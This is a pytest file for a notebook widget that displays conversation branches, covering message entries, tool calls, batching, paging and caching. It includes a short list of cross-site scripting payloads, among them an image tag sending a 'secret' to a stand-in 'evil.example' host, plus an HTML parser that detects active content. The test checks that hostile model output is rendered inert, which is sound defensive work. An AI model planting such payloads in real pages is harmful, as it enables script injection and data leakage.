"""BranchView: every message kind as an entry, live and batched, paged, safe, and static."""

from __future__ import annotations

import asyncio
import re
from html.parser import HTMLParser

import pytest

from lion_nb import ActionResponse, Branch, iModel
from lion_nb.widgets import BranchView
from tests.waiting import until

HOSTILE = [
    "<script>window.pwned=1</script>",
    "<img src=x onerror=\"window.pwned='img'\">",
    '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    "[click](javascript:window.pwned=1)",
    "![tracker](https://evil.example/t.png?k=secret)",
]


class _Elements(HTMLParser):
    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            value = (value or "").replace(" ", "").lower()
            if name.startswith("on") or name in ("style", "srcdoc"):
                self.found.append((tag, name))
            if name in ("href", "src") and value.startswith(("javascript:", "data:text")):
                self.found.append((tag, name))
            if tag == "img" and name == "src" and not value.startswith("data:image/"):
                self.found.append((tag, "remote src"))
        if tag in ("script", "iframe", "object", "embed", "svg", "style"):
            self.found.append((tag, ""))


def active_parts(html: str) -> list:
    """Elements or attributes in ``html`` that could run script or load something."""
    parser = _Elements()
    parser.feed(html)
    return parser.found


def _conversation() -> Branch:
    branch = Branch(name="main", system="Be brief.")
    branch.msgs.add_message(instruction="What is the weather?")
    request = branch.msgs.add_message(
        action_request={"function": "weather", "arguments": {"city": "Oslo"}}
    )
    response = ActionResponse(
        function="weather",
        arguments={"city": "Oslo"},
        output={"temp": 3},
        action_request_id=str(request.id),
    )
    request.action_response_id = str(response.id)
    branch.msgs.add_message(action_response=response)
    pending = branch.msgs.add_message(
        action_request={"function": "forecast", "arguments": {"days": 2}}
    )
    branch.msgs.add_message(assistant_response="It is **3 °C** in Oslo.")
    return branch, request, pending


def test_every_message_kind_is_an_entry_and_a_tool_call_joins_its_result():
    branch, request, pending = _conversation()
    view = BranchView(branch)
    kinds = [(e["kind"], e["role"]) for e in view.entries]
    assert kinds == [
        ("system", "system"),
        ("instruction", "user"),
        ("action", "tool"),  # request and response: one entry
        ("action", "tool"),  # a request with no response yet
        ("assistant_response", "assistant"),
    ]
    done, waiting = view.entries[2], view.entries[3]
    assert done["id"] == str(request.id) and done["function"] == "weather"
    assert "Oslo" in done["arguments"] and '"temp": 3' in done["result"]
    assert done["pending"] is False and done["is_error"] is False
    assert waiting["id"] == str(pending.id) and waiting["pending"] is True
    assert "<strong>3 °C</strong>" in view.entries[4]["html"]
    assert view.total == 6 and view.title == "main"


def test_a_failed_tool_and_a_response_without_its_request_are_shown():
    branch = Branch(name="b")
    branch.msgs.add_message(
        action_response={"function": "f", "arguments": {}, "output": "boom", "is_error": True}
    )
    (entry,) = BranchView(branch).entries
    assert entry["kind"] == "action" and entry["is_error"] is True and "boom" in entry["result"]


def test_details_carry_model_tokens_and_cell():
    branch = Branch(chat_model=iModel(provider="offline", model="scripted", responses=["ok"]))
    import anyio

    anyio.run(branch.communicate, "hi")
    answer = branch.messages[-1]
    answer.metadata["lion"] = {"cell_id": "c1", "execution_count": 7, "turn": "t"}
    meta = BranchView(branch).entries[-1]["meta"]
    assert meta["model"] == "offline/scripted"
    assert meta["tokens"] > 0
    assert meta["cell"] == "[7]"


@pytest.mark.parametrize("attack", HOSTILE)
def test_hostile_model_output_is_inert_in_widget_state(attack):
    branch = Branch()
    branch.msgs.add_message(assistant_response=f"fine {attack} **bold**")
    branch.msgs.add_message(
        action_response={"function": "f", "arguments": {"q": attack}, "output": attack}
    )
    view = BranchView(branch)
    view.stream(attack)
    view.refresh()
    state = " ".join(
        [view.stream_html, view.static_html()]
        + [e["html"] + e.get("arguments", "") + e.get("result", "") for e in view.entries]
    )
    assert active_parts(state) == [], attack
    assert "bold" in state


def test_it_follows_the_branch_live():
    branch = Branch()
    view = BranchView(branch)
    assert view.entries == []
    branch.msgs.add_message(instruction="one")  # no loop running: flushed at once
    assert [e["kind"] for e in view.entries] == ["instruction"]
    view.close()
    branch.msgs.add_message(instruction="two")
    assert len(view.entries) == 1  # closed: no longer follows


def test_live_updates_are_batched_to_the_rate():
    branch = Branch()
    view = BranchView(branch, max_rate=20)

    async def burst():
        before = view._throttle.flushes
        for i in range(500):
            branch.msgs.add_message(instruction=f"m{i}")
            if i % 50 == 0:
                await asyncio.sleep(0)
        flushed_during = view._throttle.flushes - before
        await until(lambda: view.total == 500, what="the trailing flush")
        return flushed_during

    flushed = asyncio.run(burst())
    assert flushed <= 3, flushed  # 500 messages, a handful of front-end updates
    assert view.total == 500 and view.entries[-1]["html"] == "<p>m499</p>\n"


def test_streamed_text_is_batched_and_cleared():
    view = BranchView(Branch())

    async def stream():
        before = view._throttle.flushes
        for i in range(1000):
            view.stream(f"w{i} ")
        await until(lambda: "w999" in view.stream_html, what="the trailing flush")
        return view._throttle.flushes - before

    flushes = asyncio.run(stream())
    assert flushes <= 3, flushes
    assert "w999" in view.stream_html and view.streamed_text.startswith("w0 w1")
    view.end_stream()
    assert view.stream_html == ""


def test_ten_thousand_messages_open_paged():
    branch = Branch()
    for i in range(10_000):
        branch.msgs.add_message(instruction=f"message {i}")
    view = BranchView(branch, page_size=40)
    assert view.total == 10_000 and len(view.entries) == 40
    assert view.start == 9_960 and view.entries[-1]["index"] == 9_999
    assert view._cache.rendered == 40  # only the window was rendered
    view._on_front_end(view, {"type": "page", "start": 0}, [])  # "show earlier" to the top
    assert view.start == 0 and view.following is False
    assert [e["index"] for e in view.entries][:2] == [0, 1]
    branch.msgs.add_message(instruction="new")  # a page being read is not pulled away
    assert view.start == 0
    view.page(None)
    assert view.following and view.entries[-1]["html"] == "<p>new</p>\n"


def test_an_action_offered_on_messages_calls_back_with_the_message():
    branch, request, _ = _conversation()
    view = BranchView(branch)
    clicked = []
    view.on_action("fork", clicked.append)
    assert view.actions == ["fork"]
    view._on_front_end(view, {"type": "action", "name": "fork", "id": str(request.id)}, [])
    assert clicked == [request]
    view._on_front_end(view, {"type": "action", "name": "nope", "id": str(request.id)}, [])
    view._on_front_end(view, {"type": "action", "name": "fork", "id": "not-an-id"}, [])
    assert clicked == [request]  # unknown action or message: nothing happens
    view.on_action("fork", None)
    assert view.actions == []


def test_a_failing_action_callback_does_not_raise_into_the_kernel(caplog):
    branch, request, _ = _conversation()
    view = BranchView(branch)

    def broken(message):
        raise RuntimeError("bad handler")

    view.on_action("fork", broken)
    view._on_front_end(view, {"type": "action", "name": "fork", "id": str(request.id)}, [])
    assert "a widget callback failed" in caplog.text


def test_refresh_sees_removed_messages():
    branch, _, _ = _conversation()
    view = BranchView(branch)
    branch.messages.remove(branch.messages[-1].id)
    view.refresh()
    assert view.total == 5 and view.entries[-1]["kind"] == "action"


def test_switching_branch_follows_the_new_one_only():
    first, _, _ = _conversation()
    second = Branch(name="other")
    view = BranchView(first)
    view.branch = second
    assert view.title == "other" and view.entries == []
    first.msgs.add_message(instruction="not shown")
    second.msgs.add_message(instruction="shown")
    assert [e["html"] for e in view.entries] == ["<p>shown</p>\n"]


def test_rendering_is_cached_per_message_revision():
    branch = Branch()
    message = branch.msgs.add_message(assistant_response="first")
    view = BranchView(branch)
    rendered = view._cache.rendered
    view.refresh()
    assert view._cache.rendered == rendered  # nothing changed: nothing rendered again
    message.response = "second"
    view.refresh()
    assert view._cache.rendered == rendered + 1 and "second" in view.entries[0]["html"]


def test_static_renderings_show_the_conversation_without_ids_or_times():
    branch, request, _ = _conversation()
    view = BranchView(branch)
    data, _meta = view._repr_mimebundle_()
    assert "application/vnd.jupyter.widget-view+json" in data
    html, text = data["text/html"], data["text/plain"]
    assert "<strong>3 °C</strong>" in html and "<code>weather</code>" in html
    assert "user: What is the weather?" in text and "tool weather(" in text
    assert str(request.id) not in html + text
    assert not re.search(r"\d\d:\d\d:\d\d", html + text)


def test_a_bad_page_size_is_refused():
    with pytest.raises(ValueError, match="page_size"):
        BranchView(Branch(), page_size=0)
